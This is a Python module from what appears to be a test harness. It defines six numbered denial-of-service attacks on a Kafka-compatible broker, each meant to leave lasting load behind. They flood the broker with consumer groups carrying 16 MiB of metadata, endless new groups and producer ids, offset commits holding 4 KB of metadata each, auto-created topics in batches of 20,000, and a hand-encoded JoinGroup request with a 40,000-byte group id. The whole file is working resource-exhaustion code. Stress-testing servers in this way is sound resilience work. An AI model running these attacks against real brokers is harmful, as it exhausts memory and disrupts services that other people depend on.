"""Attacks that leave something at the broker after the attacker has gone."""

import os
import struct

from abuse.attack import Target, attack
from abuse.prepared import INVENTED, INVENTED_PARTITIONS, STEADY, invented
from abuse.wire import Line, encode
from kafka_server import JOIN_GROUP, LIST_GROUPS, METADATA, OFFSET_COMMIT, PRODUCE

_MIB = 1 << 20
_PORTION = 100  # requests sent before their answers are taken


def _in_portions(line: Line, requests: list[bytes]) -> None:
    line.send(b"".join(requests))
    for _ in requests:
        line.receive()


def _fresh() -> int:
    """A number that nobody used before."""
    return int.from_bytes(os.urandom(6), "big")


@attack("3.1", "Static members of new groups, each with 16 MiB of metadata and the longest session", times=2)
def join_with_much_metadata(target: Target, worker: int) -> None:
    protocols = [{"name": "r", "metadata": bytes(16 * _MIB)}]
    values = {"session_timeout_ms": target.session_ms, "rebalance_timeout_ms": 1000, "member_id": ""}
    values |= {"protocol_type": "c", "protocols": protocols, "group_instance_id": "i"}
    with target.line() as line:
        line.send(encode(JOIN_GROUP, 5, group_id=f"heavy-{_fresh()}", **values))
        line.receive()


@attack("3.2", "Ever new groups with a member that does not come back (55 B each)", times=2)
def join_and_never_come_back(target: Target, worker: int) -> None:
    values = {"session_timeout_ms": target.session_ms, "rebalance_timeout_ms": 1000, "member_id": ""}
    values |= {"protocol_type": "c", "protocols": [{"name": "r", "metadata": b""}]}
    with target.line() as line:
        while target.left() > 0:
            _in_portions(line, [encode(JOIN_GROUP, 4, group_id=f"p{_fresh():x}", **values) for _ in range(_PORTION)])


@attack("3.3", "Ever new producer ids, in 100 partitions (74 B each)", times=2)
def invent_producers(target: Target, worker: int) -> None:
    with target.line() as line:
        while target.left() > 0:
            batches = invented(range(INVENTED_PARTITIONS), _fresh())
            rows = [{"index": index, "records": records} for index, records in batches]
            topics = [{"name": INVENTED, "partition_data": rows}]
            _in_portions(line, [encode(PRODUCE, 9, acks=1, timeout_ms=1000, topic_data=topics)])


@attack("3.4", "Ever new groups by OffsetCommit, with 4 KB of metadata each", times=2)
def commit_for_new_groups(target: Target, worker: int) -> None:
    rows = [{"partition_index": 0, "committed_offset": 1, "committed_metadata": "x" * 4096}]
    topics = [{"name": target.topic(STEADY, worker), "partitions": rows}]
    values = {"generation_id_or_member_epoch": -1, "member_id": "", "topics": topics}
    with target.line() as line:
        while target.left() > 0:
            _in_portions(line, [encode(OFFSET_COMMIT, 8, group_id=f"c{_fresh():x}", **values) for _ in range(_PORTION)])


@attack("3.5", "Metadata of 20,000 topics that there are not, and that are created by it (469 KB)", times=2)
def create_topics_by_asking(target: Target, worker: int) -> None:
    with target.line() as line:
        while target.left() > 0:
            first = _fresh()
            topics = [{"name": f"asked-{first + number:015}"} for number in range(20_000)]
            line.send(encode(METADATA, 12, topics=topics, allow_auto_topic_creation=True))
            line.receive()


@attack("3.6", "Groups with ids of 40,000 bytes in compact strings, and ListGroups of the old versions behind them")
def join_with_a_long_name(target: Target, worker: int) -> None:
    with target.line() as line:
        line.send(_join_by_hand(f"{_fresh()}".ljust(40_000, "n").encode(), target.session_ms))
        line.receive()
    for _ in range(20):
        with target.line() as line:
            line.ask(LIST_GROUPS, 2)


def _join_by_hand(group: bytes, session_ms: int) -> bytes:
    """JoinGroup of version 9: our encoder would rightly refuse the name."""
    payload = struct.pack(">hhih", JOIN_GROUP, 9, 1, -1) + b"\0" + _compact(group)
    payload += struct.pack(">ii", session_ms, 1000) + _compact(b"") + _compact(b"i") + _compact(b"c")
    payload += b"\2" + _compact(b"r") + _compact(b"") + b"\0"  # one protocol
    payload += b"\0\0"  # no reason, no tags
    return struct.pack(">i", len(payload)) + payload


def _compact(text: bytes) -> bytes:
    """Behind its length plus one, as an unsigned varint."""
    number, head = len(text) + 1, bytearray()
    while number > 0x7F:
        head.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*head, number]) + text
